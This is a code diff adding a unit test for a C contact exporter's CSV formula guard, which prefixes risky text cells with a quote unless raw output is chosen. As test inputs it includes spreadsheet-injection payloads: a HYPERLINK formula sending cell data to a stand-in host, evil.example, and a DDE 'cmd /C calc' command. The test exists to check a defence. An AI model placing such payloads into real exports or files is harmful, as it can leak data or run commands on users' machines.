@@ -1,4 +1,5 @@
-/* Tests for appliance/io/exporter.c: the CSV header and quoting, tombstones
+/* Tests for appliance/io/exporter.c: the CSV header and quoting, the
+ * formula guard and raw cells, tombstones
  * and metadata, the atomic file write, vCard output, and the round trip
  * that matters most: an export imported into a fresh database gives the
  * same records (ids and every field value), with awkward text included. */
@@ -90,7 +91,8 @@ static void test_round_trip(void)
     struct store *a = fx_store_next();
     populate(a);
     for (int meta = 0; meta <= 1; meta++) {
-        struct exporter_opts o = {.with_meta = meta};
+        /* raw cells: the formula guard would put a quote before the phone */
+        struct exporter_opts o = {.with_meta = meta, .raw_cells = 1};
         uint64_t n = 0;
         char *csv = export_str(a, &o, &n);
         CHECK_EQ(n, 5);
@@ -164,6 +166,52 @@ static void test_header_and_quoting(void)
     CHECK_CONTAINS(csv, ",custom.alpha,custom.zeta,version,created_at,updated_at,deleted\r\n");
     CHECK_CONTAINS(csv, ",1,");
     CHECK_CONTAINS(csv, "Z,false\r\n");
+    free(csv);
+    store_close(s);
+}
+
+/* A text cell a spreadsheet would run as a formula is written quoted with
+ * a single quote in front, unless raw cells were asked for; cells made
+ * from numbers are not text and stay as they are. */
+static void test_formula_guard(void)
+{
+    struct store *s = fx_store_next();
+    json_decref(add(s, "{\"given_name\": \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1)\","
+                       " \"family_name\": \"@SUM(1+1)*cmd|' /C calc'!A0\","
+                       " \"phone\": \"+49 30 1234567\", \"job_title\": \"-12\","
+                       " \"locality\": \"Bonn\","
+                       " \"custom\": {\"note\": \"+1\", \"plain\": \"a=b\"}}"));
+    struct exporter_opts o = {0};
+    char *csv = export_str(s, &o, NULL);
+    CHECK_CONTAINS(csv, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",");
+    CHECK_CONTAINS(csv, ",\"'@SUM(1+1)*cmd|' /C calc'!A0\",");
+    CHECK_CONTAINS(csv, ",\"'+49 30 1234567\",");
+    CHECK_CONTAINS(csv, ",\"'-12\",");
+    CHECK_CONTAINS(csv, ",Bonn,");
+    CHECK_CONTAINS(csv, ",\"'+1\",a=b\r\n");
+    CHECK(strstr(csv, ",=") == NULL && strstr(csv, ",@") == NULL && strstr(csv, ",+") == NULL &&
+          strstr(csv, ",-") == NULL);
+    free(csv);
+
+    o.raw_cells = 1;
+    csv = export_str(s, &o, NULL);
+    CHECK_CONTAINS(csv, ",\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",");
+    CHECK_CONTAINS(csv, ",@SUM(1+1)*cmd|' /C calc'!A0,");
+    CHECK_CONTAINS(csv, ",+49 30 1234567,");
+    CHECK_CONTAINS(csv, ",-12,");
+    CHECK_CONTAINS(csv, ",+1,a=b\r\n");
+    free(csv);
+
+    /* a negative amount is a number the exporter wrote, not typed text */
+    json_t *in = json_pack("{s:s, s:I, s:s}", "title", "=Refund", "amount_minor", (json_int_t)-1200,
+                           "currency", "EUR");
+    struct op_error err;
+    CHECK_EQ(store_create(s, &entity_deal, in, 0, NULL, &err), 0);
+    json_decref(in);
+    struct exporter_opts d = {.entity = &entity_deal};
+    csv = export_str(s, &d, NULL);
+    CHECK_CONTAINS(csv, ",\"'=Refund\",");
+    CHECK_CONTAINS(csv, ",-1200,EUR,");
     free(csv);
     store_close(s);
 }
@@ -325,6 +373,7 @@ int main(void)
     fx_tmpdir("exporter");
     RUN(test_round_trip);
     RUN(test_header_and_quoting);
+    RUN(test_formula_guard);
     RUN(test_empty_and_deleted);
     RUN(test_to_file);
     RUN(test_vcard);
